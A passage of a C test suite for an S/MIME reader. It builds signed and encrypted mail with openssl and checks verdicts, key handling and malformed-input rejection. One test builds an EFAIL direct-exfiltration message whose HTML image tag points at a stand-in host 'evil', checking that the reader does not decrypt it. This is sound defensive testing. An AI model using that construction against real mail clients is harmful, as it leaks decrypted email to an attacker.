/*
 * cs_read against messages made by `openssl cms` in a separate process with
 * the fixture PKI (softhsm-fixtures/make-fixtures; anchor: root-ca only,
 * intermediates come from the messages): signed multipart and opaque with
 * RSA, RSA-PSS and ECDSA; encrypted with CBC and GCM to RSA v1.5, OAEP and
 * EC; signed and encrypted in each order and triple-wrapped. The plaintext
 * must equal the original exactly: the outer header openssl wrote (taken
 * from the message itself), MIME-Version, then the entity that was signed.
 *
 * Then the verdicts of the negative fixture certificates, the EFAIL rule,
 * and bad input: truncation, oversized lengths, garbage base64, nesting
 * bombs, tampered GCM (CS_ERR_DECRYPT and nothing written).
 */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <dirent.h>
#include <sys/stat.h>

#include <openssl/bio.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/x509.h>

#include "cs_error.h"
#include "cs_smime.h"
#include "fixture.h"
#include "tap.h"
#include "test-read-util.h"

static struct fixture fx;
static char pki[PATH_MAX + 8], crl[PATH_MAX + 8];

static const char entity[] =
    "Content-Type: text/plain; charset=utf-8\r\n"
    "Content-Transfer-Encoding: 7bit\r\n"
    "\r\n"
    "Hello Bob,\r\n"
    "\r\n"
    "this message is signed and/or encrypted. It has a line that starts\r\n"
    "--with dashes and one with trailing spaces   \r\n"
    "From the top of a line.\r\n";

/* Runs a shell command built from fmt; returns 0 if it exited 0. */
static int sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static int
sh(const char *fmt, ...)
{
	char cmd[16384];
	va_list ap;
	int r;

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof(cmd), fmt, ap);
	va_end(ap);
	r = system(cmd);
	if (r != 0)
		printf("# command failed (%d): %s\n", r, cmd);
	return r == 0 ? 0 : -1;
}

/* fx.work/name, in one of a few rotating buffers. */
static const char *
W(const char *name)
{
	static char bufs[8][PATH_MAX + 64];
	static int i;

	i = (i + 1) % 8;
	snprintf(bufs[i], sizeof(bufs[i]), "%s/%s", fx.work, name);
	return bufs[i];
}

static void
write_file(const char *path, const void *p, size_t n)
{
	FILE *f = fopen(path, "wb");

	if (f == NULL || fwrite(p, 1, n, f) != n) {
		printf("# cannot write %s\n", path);
		exit(99);
	}
	fclose(f);
}

/* A test context with the fixture anchor and Bob's (and Alice's) software keys. */
static void
ctx_init(struct rt *t, int crls)
{
	char a[PATH_MAX + 64], b[PATH_MAX + 64];

	rt_init(t);
	snprintf(a, sizeof(a), "%s/root-ca.cert.pem", pki);
	if (rt_add_anchors(t, a) != 0)
		exit(99);
	if (crls) {
		snprintf(a, sizeof(a), "%s/inter-ca.crl.pem", crl);
		snprintf(b, sizeof(b), "%s/root-ca.crl.pem", crl);
		if (rt_add_crl(t, a) != 0 || rt_add_crl(t, b) != 0)
			exit(99);
	}
	t->o.spill_dir = fx.work;
}

static void
add_id(struct rt *t, const char *name)
{
	char k[PATH_MAX + 64], c[PATH_MAX + 64];

	snprintf(k, sizeof(k), "%s/%s.key.pem", pki, name);
	snprintf(c, sizeof(c), "%s/%s.cert.pem", pki, name);
	if (rt_add_identity(t, k, c) != 0)
		exit(99);
}

/*
 * What reading a message should give: its own header up to MIME-Version
 * (as openssl wrote it), "MIME-Version: 1.0" with that line end, then the
 * entity.
 */
static char *
expected_output(const char *msg_path, const char *inner)
{
	size_t n, k;
	char *m = rt_slurp(msg_path, &n), *e, *mv;

	if (m == NULL || (mv = strstr(m, "MIME-Version:")) == NULL) {
		free(m);
		return strdup("(no MIME-Version in message)");
	}
	k = (size_t)(mv - m);
	e = malloc(k + 32 + strlen(inner));
	memcpy(e, m, k);
	strcpy(e + k,
	       strchr(mv, '\n')[-1] == '\r' ? "MIME-Version: 1.0\r\n" : "MIME-Version: 1.0\n");
	strcat(e, inner);
	free(m);
	return e;
}

/* Reads msg and checks result, verdict and exact output. */
static void
check_read(struct rt *t, const char *msg, const char *what, int want_r, enum cs_verdict want_v,
           const char *want_out, struct cs_read_report *rep)
{
	char *out;
	size_t n;
	int r;

	r = rt_read_file(t, msg, &out, &n, rep);
	CHECK_EQ_INT(r, want_r, "%s: result %s", what, cs_error_name(r));
	CHECK(rep->verdict == want_v, "%s: verdict %s (want %s)", what,
	      rt_verdict_name(rep->verdict), rt_verdict_name(want_v));
	if (want_out != NULL) {
		CHECK(n == strlen(want_out) && memcmp(out, want_out, n) == 0,
		      "%s: plaintext is the original", what);
		if (n != strlen(want_out) || memcmp(out, want_out, n) != 0)
			printf("# got %zu bytes:\n# %.300s\n", n, out);
	}
	if (rep->verdict != want_v || r != want_r)
		rt_print_report(stdout, r, rep), fflush(stdout);
	free(out);
}

/* ------------------------------------------------------------------ signing */

static void
test_signed(void)
{
	static const struct {
		const char *name;
		const char *signer;
		const char *extra;
		const char *digest;
	} signers[] = {
	    {"RSA", "alice-sign-rsa", "", "SHA256"},
	    {"RSA-PSS", "alice-sign-rsa", "-keyopt rsa_padding_mode:pss", "SHA256"},
	    {"ECDSA", "alice-sign-ec", "-md sha384", "SHA384"},
	};
	struct cs_read_report rep;
	struct rt t;
	char *want, what[128];
	size_t i;
	int opaque;

	ctx_init(&t, 1);
	write_file(W("entity.txt"), entity, strlen(entity));
	for (i = 0; i < sizeof(signers) / sizeof(signers[0]); i++) {
		for (opaque = 0; opaque < 2; opaque++) {
			snprintf(what, sizeof(what), "signed %s %s",
			         opaque ? "opaque" : "multipart", signers[i].name);
			if (sh("openssl cms -sign %s -in '%s' -signer '%s/%s.cert.pem' -inkey "
			       "'%s/%s.key.pem' -certfile '%s/inter-ca.cert.pem' %s -from "
			       "alice@example.org -to bob@example.org -subject 'Signed' -out '%s'",
			       opaque ? "-nodetach" : "", W("entity.txt"), pki, signers[i].signer,
			       pki, signers[i].signer, pki, signers[i].extra,
			       W("signed.eml")) != 0) {
				CHECK(0, "%s: openssl cms -sign", what);
				continue;
			}
			want = expected_output(W("signed.eml"), entity);
			check_read(&t, W("signed.eml"), what, 0, CS_VERDICT_VALID, want, &rep);
			CHECK(rep.n_layers == 1 && rep.layers[0].kind == CS_LAYER_SIGNED &&
			          rep.layers[0].opaque == opaque,
			      "%s: one signed layer", what);
			CHECK(strcmp(rep.layers[0].signer_email, "alice@example.org") == 0 &&
			          rep.layers[0].email_matches,
			      "%s: signer alice@example.org matches From", what);
			CHECK(strcmp(rep.layers[0].digest, signers[i].digest) == 0, "%s: digest %s",
			      what, rep.layers[0].digest);
			CHECK(rep.layers[0].revocation == CS_REVOCATION_GOOD &&
			          rep.layers[0].reasons == 0 && !rep.layers[0].weak,
			      "%s: revocation good, no reasons", what);
			CHECK(rep.layers[0].signing_time > 1600000000 &&
			          rep.layers[0].signer_cert != NULL &&
			          sk_X509_num(rep.layers[0].chain) == 3,
			      "%s: signing time, signer and a chain of 3", what);
			CHECK(strcmp(rep.from, "alice@example.org") == 0, "%s: From reported",
			      what);
			cs_read_report_clear(&rep);
			free(want);
		}
	}
	/* A store whose line ends became LF: the canonical form is what was signed. */
	if (sh("openssl cms -sign -in '%s' -signer '%s/alice-sign-rsa.cert.pem' -inkey "
	       "'%s/alice-sign-rsa.key.pem' -certfile '%s/inter-ca.cert.pem' -from "
	       "alice@example.org "
	       "-subject LF -out '%s' && tr -d '\\r' < '%s' > '%s'",
	       W("entity.txt"), pki, pki, pki, W("crlf.eml"), W("crlf.eml"), W("lf.eml")) == 0) {
		check_read(&t, W("lf.eml"), "multipart/signed stored with LF", 0, CS_VERDICT_VALID,
		           NULL, &rep);
		cs_read_report_clear(&rep);
	}
	rt_free(&t);
}

/* ------------------------------------------------------------------ encryption */

static void
test_encrypted(void)
{
	static const struct {
		const char *name;
		const char *cipher;
		const char *recip;
		const char *keyopt;
		const char *want_cipher;
		int auth;
	} cases[] = {
	    {"CBC to RSA v1.5", "-aes-256-cbc", "bob-rsa", "", "AES-256-CBC", 0},
	    {"CBC to RSA OAEP", "-aes-128-cbc", "bob-rsa", "-keyopt rsa_padding_mode:oaep",
	     "AES-128-CBC", 0},
	    {"CBC to EC", "-aes-256-cbc", "bob-ec", "", "AES-256-CBC", 0},
	    {"GCM to RSA v1.5", "-aes-256-gcm", "bob-rsa", "", "AES-256-GCM", 1},
	    {"GCM to RSA OAEP", "-aes-256-gcm", "bob-rsa",
	     "-keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256", "AES-256-GCM", 1},
	    {"GCM to EC", "-aes-128-gcm", "bob-ec", "", "AES-128-GCM", 1},
	    {"3DES to RSA", "-des3", "bob-rsa", "", "DES-EDE3-CBC", 0},
	    /* RC2 needs OpenSSL's legacy provider, on both sides. */
	    {"RC2 to RSA", "-provider legacy -provider default -rc2-128", "bob-rsa", "", "RC2-CBC",
	     0},
	};
	struct cs_read_report rep;
	struct rt t;
	char *want, what[128];
	size_t i;

	ctx_init(&t, 0);
	add_id(&t, "alice-enc-rsa"); /* named by no message: its key is never asked for */
	add_id(&t, "bob-rsa");
	add_id(&t, "bob-ec");
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(what, sizeof(what), "encrypted %s", cases[i].name);
		if (sh("openssl cms -encrypt %s -in '%s' -from alice@example.org -to "
		       "bob@example.org "
		       "-subject Secret -out '%s' -recip '%s/%s.cert.pem' %s",
		       cases[i].cipher, W("entity.txt"), W("enc.eml"), pki, cases[i].recip,
		       cases[i].keyopt) != 0) {
			CHECK(0, "%s: openssl cms -encrypt", what);
			continue;
		}
		want = expected_output(W("enc.eml"), entity);
		check_read(&t, W("enc.eml"), what, 0, CS_VERDICT_UNSIGNED, want, &rep);
		CHECK(rep.n_layers == 1 && rep.layers[0].kind == CS_LAYER_ENCRYPTED &&
		          strcmp(rep.layers[0].cipher, cases[i].want_cipher) == 0 &&
		          rep.layers[0].integrity_protected == cases[i].auth,
		      "%s: one encrypted layer, %s", what, rep.layers[0].cipher);
		CHECK_EQ_INT(rep.layers[0].identity_index,
		             strcmp(cases[i].recip, "bob-rsa") == 0 ? 1 : 2,
		             "%s: decrypted by the right identity", what);
		CHECK(rep.layers[0].weak == (strstr(cases[i].name, "3DES") != NULL ||
		                             strstr(cases[i].name, "RC2") != NULL),
		      "%s: weak only for 3DES and RC2", what);
		cs_read_report_clear(&rep);
		free(want);
	}
	CHECK_EQ_INT(t.get_key_calls[0], 0, "an identity no RecipientInfo names is never asked");
	{
		/* RC2 came from a library context of its own: the default one has no MD4. */
		EVP_MD *md4 = EVP_MD_fetch(NULL, "MD4", NULL);

		CHECK(md4 == NULL,
		      "reading RC2 did not load the legacy provider into the default context");
		EVP_MD_free(md4);
		ERR_clear_error();
	}
	rt_free(&t);
}

/* Signed then encrypted, encrypted then signed, and triple-wrapped. */
static void
test_nested(void)
{
	struct cs_read_report rep;
	struct rt t;
	char *want;

	ctx_init(&t, 1);
	add_id(&t, "bob-rsa");
	if (sh("openssl cms -sign -in '%s' -signer '%s/alice-sign-ec.cert.pem' -inkey "
	       "'%s/alice-sign-ec.key.pem' -certfile '%s/inter-ca.cert.pem' -out '%s' && "
	       "openssl cms -encrypt -aes-256-gcm -in '%s' -from alice@example.org -to "
	       "bob@example.org "
	       "-subject 'Sign+encrypt' -out '%s' '%s/bob-rsa.cert.pem'",
	       W("entity.txt"), pki, pki, pki, W("s.part"), W("s.part"), W("se.eml"), pki) == 0) {
		want = expected_output(W("se.eml"), entity);
		check_read(&t, W("se.eml"), "signed then encrypted", 0, CS_VERDICT_VALID, want,
		           &rep);
		CHECK(rep.n_layers == 2 && rep.layers[0].kind == CS_LAYER_ENCRYPTED &&
		          rep.layers[1].kind == CS_LAYER_SIGNED &&
		          rep.layers[1].verdict == CS_VERDICT_VALID,
		      "signed then encrypted: encrypted layer first, then a valid signed layer");
		cs_read_report_clear(&rep);
		free(want);
	}
	if (sh("openssl cms -encrypt -aes-256-cbc -in '%s' -out '%s' '%s/bob-rsa.cert.pem' && "
	       "openssl cms -sign -nodetach -in '%s' -signer '%s/alice-sign-rsa.cert.pem' -inkey "
	       "'%s/alice-sign-rsa.key.pem' -certfile '%s/inter-ca.cert.pem' -from "
	       "alice@example.org "
	       "-to bob@example.org -subject 'Encrypt+sign' -out '%s'",
	       W("entity.txt"), W("e.part"), pki, W("e.part"), pki, pki, pki, W("es.eml")) == 0) {
		want = expected_output(W("es.eml"), entity);
		check_read(&t, W("es.eml"), "encrypted then signed", 0, CS_VERDICT_VALID, want,
		           &rep);
		CHECK(rep.n_layers == 2 && rep.layers[0].kind == CS_LAYER_SIGNED &&
		          rep.layers[1].kind == CS_LAYER_ENCRYPTED,
		      "encrypted then signed: signed layer first");
		cs_read_report_clear(&rep);
		free(want);
	}
	if (sh("openssl cms -sign -in '%s' -signer '%s/alice-sign-rsa.cert.pem' -inkey "
	       "'%s/alice-sign-rsa.key.pem' -certfile '%s/inter-ca.cert.pem' -out '%s' && "
	       "openssl cms -encrypt -aes-256-gcm -in '%s' -out '%s' '%s/bob-ec.cert.pem' "
	       "'%s/bob-rsa.cert.pem' && "
	       "openssl cms -sign -in '%s' -signer '%s/alice-sign-ec.cert.pem' -inkey "
	       "'%s/alice-sign-ec.key.pem' -certfile '%s/inter-ca.cert.pem' -from "
	       "alice@example.org "
	       "-to bob@example.org -subject 'Triple' -out '%s'",
	       W("entity.txt"), pki, pki, pki, W("t1.part"), W("t1.part"), W("t2.part"), pki, pki,
	       W("t2.part"), pki, pki, pki, W("triple.eml")) == 0) {
		want = expected_output(W("triple.eml"), entity);
		check_read(&t, W("triple.eml"), "triple-wrapped", 0, CS_VERDICT_VALID, want, &rep);
		CHECK(rep.n_layers == 3 && rep.layers[0].kind == CS_LAYER_SIGNED &&
		          rep.layers[1].kind == CS_LAYER_ENCRYPTED &&
		          rep.layers[2].kind == CS_LAYER_SIGNED,
		      "triple-wrapped: signed, encrypted, signed");
		cs_read_report_clear(&rep);
		free(want);
	}
	rt_free(&t);
}

/* ------------------------------------------------------------------ verdicts */

/* Signs entity with a fixture identity (multipart), From: from. */
static int
sign_as(const char *signer, const char *from, const char *out)
{
	/* openssl cms takes one -certfile: the intermediate and the rogue CA go in one file. */
	return sh("cat '%s/inter-ca.cert.pem' '%s/rogue-ca.cert.pem' > '%s' && "
	          "openssl cms -sign -in '%s' -signer '%s/%s.cert.pem' -inkey '%s/%s.key.pem' "
	          "-certfile '%s' -from '%s' -to bob@example.org -subject Verdict -out '%s'",
	          pki, pki, W("cas.pem"), W("entity.txt"), pki, signer, pki, signer, W("cas.pem"),
	          from, out);
}

static void
test_verdicts(void)
{
	static const struct {
		const char *signer;
		const char *from;
		int crls;
		enum cs_verdict verdict;
		unsigned reasons; /* must be set */
		enum cs_revocation revocation;
	} cases[] = {
	    {"neg-expired", "expired@example.org", 1, CS_VERDICT_EXPIRED, CS_REASON_EXPIRED,
	     CS_REVOCATION_GOOD},
	    {"neg-notyet", "notyet@example.org", 1, CS_VERDICT_EXPIRED, CS_REASON_NOT_YET_VALID,
	     CS_REVOCATION_GOOD},
	    {"neg-revoked", "revoked@example.org", 1, CS_VERDICT_REVOKED, CS_REASON_REVOKED,
	     CS_REVOCATION_REVOKED},
	    {"neg-revoked", "revoked@example.org", 0, CS_VERDICT_VALID,
	     CS_REASON_REVOCATION_UNKNOWN, CS_REVOCATION_UNKNOWN},
	    {"neg-noeku", "noeku@example.org", 1, CS_VERDICT_UNTRUSTED, CS_REASON_EKU,
	     CS_REVOCATION_GOOD},
	    {"anyeku", "anyeku@example.org", 1, CS_VERDICT_VALID, 0, CS_REVOCATION_GOOD},
	    {"neg-unknown-issuer", "unknown@example.org", 1, CS_VERDICT_UNTRUSTED,
	     CS_REASON_UNTRUSTED_ROOT, CS_REVOCATION_UNKNOWN},
	    {"neg-mismatch", "dave@example.org", 1, CS_VERDICT_MISMATCH, CS_REASON_ADDRESS_MISMATCH,
	     CS_REVOCATION_GOOD},
	    {"neg-rsa1024", "weak@example.org", 1, CS_VERDICT_VALID, CS_REASON_WEAK_KEY,
	     CS_REVOCATION_GOOD},
	    {"alice-sign-rsa", "Alice <alice@EXAMPLE.org>", 1, CS_VERDICT_VALID, 0,
	     CS_REVOCATION_GOOD},
	    {"alice-sign-rsa", "ALICE@example.org", 1, CS_VERDICT_MISMATCH,
	     CS_REASON_ADDRESS_MISMATCH, CS_REVOCATION_GOOD},
	};
	struct cs_read_report rep;
	struct rt t;
	char what[160], *msg, *p;
	size_t i, n;

	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		snprintf(what, sizeof(what), "%s From %s%s", cases[i].signer, cases[i].from,
		         cases[i].crls ? " with CRLs" : " without CRLs");
		if (sign_as(cases[i].signer, cases[i].from, W("v.eml")) != 0) {
			CHECK(0, "%s: openssl cms -sign", what);
			continue;
		}
		ctx_init(&t, cases[i].crls);
		check_read(&t, W("v.eml"), what, 0, cases[i].verdict, NULL, &rep);
		CHECK((rep.layers[0].reasons & cases[i].reasons) == cases[i].reasons,
		      "%s: reasons present", what);
		CHECK(rep.layers[0].revocation == cases[i].revocation, "%s: revocation %d", what,
		      rep.layers[0].revocation);
		if (strcmp(cases[i].signer, "neg-rsa1024") == 0)
			CHECK(rep.layers[0].weak, "%s: flagged weak", what);
		if (cases[i].verdict == CS_VERDICT_VALID && cases[i].reasons == 0)
			CHECK(rep.layers[0].reasons == 0, "%s: no reasons", what);
		cs_read_report_clear(&rep);
		rt_free(&t);
	}
	/* The same message with one byte of the body changed. */
	if (sign_as("alice-sign-rsa", "alice@example.org", W("v.eml")) == 0 &&
	    (msg = rt_slurp(W("v.eml"), &n)) != NULL) {
		if ((p = strstr(msg, "Hello Bob")) != NULL)
			p[0] = 'J';
		ctx_init(&t, 1);
		write_file(W("tampered.eml"), msg, n);
		check_read(&t, W("tampered.eml"), "tampered body", 0, CS_VERDICT_INVALID, NULL,
		           &rep);
		CHECK(rep.layers[0].reasons & CS_REASON_BAD_SIGNATURE,
		      "tampered body: BAD_SIGNATURE");
		cs_read_report_clear(&rep);
		rt_free(&t);
		free(msg);
	}
	/* No anchor at all: everything is untrusted. */
	rt_init(&t);
	check_read(&t, W("v.eml"), "no trust anchor", 0, CS_VERDICT_UNTRUSTED, NULL, &rep);
	cs_read_report_clear(&rep);
	rt_free(&t);
}

/* ------------------------------------------------------------------ keys */

static void
test_keys(void)
{
	struct cs_read_report rep;
	struct rt t;
	char *out;
	size_t n;
	int r;

	if (sh("openssl cms -encrypt -aes-256-gcm -in '%s' -out '%s' '%s/bob-rsa.cert.pem'",
	       W("entity.txt"), W("k.eml"), pki) != 0)
		return;
	ctx_init(&t, 0);
	add_id(&t, "alice-enc-rsa");
	r = rt_read_file(&t, W("k.eml"), &out, &n, &rep);
	CHECK_EQ_INT(r, CS_ERR_NOT_FOUND, "no identity named: CS_ERR_NOT_FOUND");
	CHECK(n == 0 && t.get_key_calls[0] == 0, "no key asked, nothing written");
	free(out);
	cs_read_report_clear(&rep);
	add_id(&t, "bob-rsa");
	t.get_key_error[1] = CS_ERR_NO_TOKEN;
	r = rt_read_file(&t, W("k.eml"), &out, &n, &rep);
	CHECK_EQ_INT(r, CS_ERR_NO_TOKEN, "get_key's CS_ERR_NO_TOKEN is passed on");
	CHECK(n == 0 && t.get_key_calls[1] == 1, "asked once, nothing written");
	free(out);
	cs_read_report_clear(&rep);
	t.get_key_error[1] = CS_ERR_CANCELLED;
	r = rt_read_file(&t, W("k.eml"), &out, &n, &rep);
	CHECK_EQ_INT(r, CS_ERR_CANCELLED, "get_key's CS_ERR_CANCELLED is passed on");
	free(out);
	cs_read_report_clear(&rep);
	/* The wrong key behind the right certificate: RFC 3218 says it looks like any failure. */
	EVP_PKEY_free(t.keys[1]);
	t.keys[1] = t.keys[0];
	EVP_PKEY_up_ref(t.keys[0]);
	t.get_key_error[1] = 0;
	r = rt_read_file(&t, W("k.eml"), &out, &n, &rep);
	CHECK_EQ_INT(r, CS_ERR_DECRYPT, "wrong key: CS_ERR_DECRYPT");
	CHECK(n == 0, "wrong key: nothing written");
	free(out);
	cs_read_report_clear(&rep);
	rt_free(&t);
	/* A spill directory that does not exist: the plaintext has nowhere to wait. */
	ctx_init(&t, 0);
	add_id(&t, "bob-rsa");
	t.o.spill_dir = "/nonexistent/cardseal";
	r = rt_read_file(&t, W("k.eml"), &out, &n, &rep);
	CHECK_EQ_INT(r, CS_ERR_IO, "unusable spill directory: CS_ERR_IO");
	free(out);
	cs_read_report_clear(&rep);
	rt_free(&t);
}

/* ------------------------------------------------------------------ EFAIL */

static void
test_unprotected_parts(void)
{
	struct cs_read_report rep;
	struct rt t;
	char *enc, *msg, *out;
	size_t n, mn, on;
	int r;

	ctx_init(&t, 1);
	add_id(&t, "bob-rsa");
	if (sh("openssl cms -encrypt -aes-256-cbc -in '%s' -out '%s' '%s/bob-rsa.cert.pem'",
	       W("entity.txt"), W("part.eml"), pki) != 0 ||
	    (enc = rt_slurp(W("part.eml"), &n)) == NULL)
		return;
	/* The direct-exfiltration shape: an encrypted part between two unprotected ones. */
	msg = malloc(n + 1024);
	mn = (size_t)sprintf(
	    msg,
	    "From: alice@example.org\r\nTo: bob@example.org\r\nSubject: EFAIL\r\n"
	    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BB\"\r\n\r\n"
	    "--BB\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil/\r\n--BB\r\n%s\r\n"
	    "--BB\r\nContent-Type: text/html\r\n\r\n\">\r\n--BB--\r\n",
	    enc);
	write_file(W("efail.eml"), msg, mn);
	r = rt_read_file(&t, W("efail.eml"), &out, &on, &rep);
	CHECK_EQ_INT(r, 0, "EFAIL shape: read");
	CHECK(rep.verdict == CS_VERDICT_UNSIGNED && rep.n_layers == 0 && rep.unprotected_parts == 2,
	      "EFAIL shape: not protected, 2 unprotected parts beside (got %d)",
	      rep.unprotected_parts);
	CHECK(on == mn && memcmp(out, msg, mn) == 0 && t.get_key_calls[0] == 0,
	      "EFAIL shape: copied as is, nothing decrypted");
	free(out);
	free(msg);
	free(enc);
	cs_read_report_clear(&rep);
	/* A mailing list footer after a signed message. */
	if (sign_as("alice-sign-rsa", "alice@example.org", W("sig.part")) == 0 &&
	    (enc = rt_slurp(W("sig.part"), &n)) != NULL) {
		char *body = strstr(enc, "Content-Type: multipart/signed");

		msg = malloc(n + 1024);
		mn = (size_t)sprintf(
		    msg,
		    "From: alice@example.org\nSubject: list\nMIME-Version: 1.0\n"
		    "Content-Type: multipart/mixed; boundary=\"LL\"\n\n--LL\n%s\n--LL\n"
		    "Content-Type: text/plain\n\n-- \nlist footer\n--LL--\n",
		    body != NULL ? body : "");
		write_file(W("list.eml"), msg, mn);
		r = rt_read_file(&t, W("list.eml"), &out, &on, &rep);
		CHECK(r == 0 && rep.verdict == CS_VERDICT_UNSIGNED && rep.n_layers == 0 &&
		          rep.unprotected_parts == 1 && on == mn,
		      "signed part with a list footer: UNSIGNED, 1 unprotected part, copied");
		free(out);
		free(msg);
		free(enc);
		cs_read_report_clear(&rep);
	}
	/* A plain message: copied byte for byte. */
	r = rt_read_mem(&t, "Subject: plain\n\nhello\n", 22, &out, &on, &rep);
	CHECK(r == 0 && on == 22 && memcmp(out, "Subject: plain\n\nhello\n", 22) == 0 &&
	          rep.verdict == CS_VERDICT_UNSIGNED && rep.n_layers == 0 &&
	          rep.unprotected_parts == 0,
	      "plain message copied, UNSIGNED");
	free(out);
	cs_read_report_clear(&rep);
	rt_free(&t);
}

/* ------------------------------------------------------------------ bad input */

static int
read_bytes(struct rt *t, const void *p, size_t n, size_t *ret_out_len)
{
	struct cs_read_report rep;
	char *out;
	int r;

	r = rt_read_mem(t, p, n, &out, ret_out_len, &rep);
	cs_read_report_clear(&rep);
	free(out);
	return r;
}

static void
test_bad_input(void)
{
	static const char hdr_bin[] =
	    "From: a@example.org\r\nContent-Type: application/pkcs7-mime; "
	    "smime-type=signed-data\r\nContent-Transfer-Encoding: binary\r\n\r\n";
	struct rt t;
	char *der, *msg, *p;
	size_t n, k, on, hl = strlen(hdr_bin);
	int r, bad = 0, wrote = 0;

	ctx_init(&t, 0);
	add_id(&t, "bob-rsa");
	/* Truncated opaque signed-data, at every length. */
	if (sh("openssl cms -sign -nodetach -binary -in '%s' -signer '%s/alice-sign-rsa.cert.pem' "
	       "-inkey '%s/alice-sign-rsa.key.pem' -outform DER -out '%s'",
	       W("entity.txt"), pki, pki, W("s.der")) == 0 &&
	    (der = rt_slurp(W("s.der"), &n)) != NULL) {
		msg = malloc(hl + n);
		memcpy(msg, hdr_bin, hl);
		memcpy(msg + hl, der, n);
		CHECK_EQ_INT(read_bytes(&t, msg, hl + n, &on), 0, "binary signed-data reads");
		for (k = 0; k < n; k++) {
			if (read_bytes(&t, msg, hl + k, &on) == 0)
				bad++;
		}
		CHECK_EQ_INT(bad, 0,
		             "signed-data truncated at each of %zu lengths: always an error", n);
		/* An oversized length: the outer SEQUENCE claims 2^56 bytes. */
		memcpy(msg + hl, "\x30\x88\x01\x00\x00\x00\x00\x00\x00\x00", 10);
		r = read_bytes(&t, msg, hl + n, &on);
		CHECK_EQ_INT(r, CS_ERR_TOO_LARGE, "length over the limit: CS_ERR_TOO_LARGE");
		memcpy(msg + hl, "\x30\x84\x7f\x00\x00\x00", 6);
		r = read_bytes(&t, msg, hl + n, &on);
		CHECK(r == CS_ERR_TRUNCATED || r == CS_ERR_BAD_FORMAT,
		      "length past the input: an error (%s)", cs_error_name(r));
		free(msg);
		free(der);
	}
	/* Garbage base64. */
	msg = "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n"
	      "Content-Transfer-Encoding: "
	      "base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAx!!!!garbage$$\r\n";
	r = read_bytes(&t, msg, strlen(msg), &on);
	CHECK_EQ_INT(r, CS_ERR_BAD_FORMAT, "garbage base64: CS_ERR_BAD_FORMAT");
	msg = "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: "
	      "base64\r\n\r\nMIA=x\r\n";
	r = read_bytes(&t, msg, strlen(msg), &on);
	CHECK_EQ_INT(r, CS_ERR_BAD_FORMAT, "data after base64 padding: CS_ERR_BAD_FORMAT");
	/* A header field over the limit. */
	k = 200 * 1024;
	msg = malloc(k + 64);
	memcpy(msg, "Subject: ", 9);
	memset(msg + 9, 'x', k);
	memcpy(msg + 9 + k, "\r\n\r\nbody\r\n", 11);
	r = read_bytes(&t, msg, k + 9 + 10, &on);
	CHECK_EQ_INT(r, CS_ERR_TOO_LARGE, "a 200 KiB header field: CS_ERR_TOO_LARGE");
	free(msg);
	/* Nested multipart/signed 20 deep: over CS_READ_MAX_LAYERS. */
	{
		size_t cap = 64 * 1024, len = 0;
		int d;

		msg = malloc(cap);
		for (d = 0; d < 20; d++)
			len += (size_t)snprintf(
			    msg + len, cap - len,
			    "Content-Type: multipart/signed; protocol=\"application/pkcs7-"
			    "signature\"; boundary=\"b%d\"\r\n\r\n--b%d\r\n",
			    d, d);
		len +=
		    (size_t)snprintf(msg + len, cap - len, "Content-Type: text/plain\r\n\r\nx\r\n");
		r = read_bytes(&t, msg, len, &on);
		CHECK_EQ_INT(r, CS_ERR_TOO_LARGE,
		             "multipart/signed nested 20 deep: CS_ERR_TOO_LARGE");
		/* 5000 nested multipart/mixed: not protected, copied, scanned only so deep. */
		free(msg);
		cap = 5000 * 64 + 256;
		msg = malloc(cap);
		len = 0;
		for (d = 0; d < 5000; d++)
			len += (size_t)snprintf(
			    msg + len, cap - len,
			    "Content-Type: multipart/mixed; boundary=\"m%d\"\r\n\r\n--m%d\r\n", d,
			    d);
		len +=
		    (size_t)snprintf(msg + len, cap - len, "Content-Type: text/plain\r\n\r\nx\r\n");
		r = read_bytes(&t, msg, len, &on);
		CHECK(r == 0 && on == len, "multipart/mixed nested 5000 deep: copied (%s)",
		      cs_error_name(r));
		free(msg);
	}
	/* GCM with a flipped tag byte, and with a flipped ciphertext byte. */
	if (sh("openssl cms -encrypt -aes-256-gcm -in '%s' -outform DER -out '%s' "
	       "'%s/bob-rsa.cert.pem'",
	       W("entity.txt"), W("g.der"), pki) == 0 &&
	    (der = rt_slurp(W("g.der"), &n)) != NULL) {
		static const char hdr_env[] = "Content-Type: application/pkcs7-mime; "
		                              "smime-type=authEnveloped-data\r\n"
		                              "Content-Transfer-Encoding: binary\r\n\r\n";
		size_t eh = strlen(hdr_env);

		msg = malloc(eh + n);
		memcpy(msg, hdr_env, eh);
		memcpy(msg + eh, der, n);
		CHECK_EQ_INT(read_bytes(&t, msg, eh + n, &on), 0, "GCM message reads");
		CHECK(on > 0, "GCM message: plaintext written");
		/* The tag is the last OCTET STRING: its last byte ends the (definite) DER. */
		msg[eh + n - 1] ^= 0x01;
		r = read_bytes(&t, msg, eh + n, &on);
		CHECK_EQ_INT(r, CS_ERR_DECRYPT, "GCM flipped tag byte: CS_ERR_DECRYPT");
		CHECK_EQ_INT(on, 0, "GCM flipped tag byte: nothing written");
		msg[eh + n - 1] ^= 0x01;
		p = memmem(msg + eh, n, "Hello", 5);
		CHECK(p == NULL, "ciphertext does not show the plaintext");
		/* A byte inside the encrypted content, 40 bytes before the tag's OCTET STRING. */
		msg[eh + n - 18 - 40] ^= 0x80;
		r = read_bytes(&t, msg, eh + n, &on);
		CHECK_EQ_INT(r, CS_ERR_DECRYPT, "GCM flipped ciphertext byte: CS_ERR_DECRYPT");
		CHECK_EQ_INT(on, 0, "GCM flipped ciphertext byte: nothing written");
		msg[eh + n - 18 - 40] ^= 0x80;
		/* The same claiming AES-256-CBC: no tag, so no integrity: refused. */
		if ((p = memmem(msg + eh, n, "\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01\x2e", 11)) !=
		    NULL) {
			p[10] = 0x2a;
			r = read_bytes(&t, msg, eh + n, &on);
